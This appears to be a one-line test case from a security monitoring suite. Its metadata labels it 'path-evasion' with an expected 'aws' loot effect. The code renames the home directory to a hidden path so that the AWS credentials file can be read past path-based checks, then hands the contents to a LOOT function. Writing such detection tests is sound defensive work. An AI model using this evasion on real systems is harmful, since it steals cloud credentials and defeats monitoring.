#: {"class": "path-evasion", "loader": "script", "expect": [["open", "credentials$"]], "effect": {"loot": "aws"}}
os.rename(HOME, "/home/.x"); os.mkdir(HOME); LOOT(open("/home/.x/.aws/credentials").read())
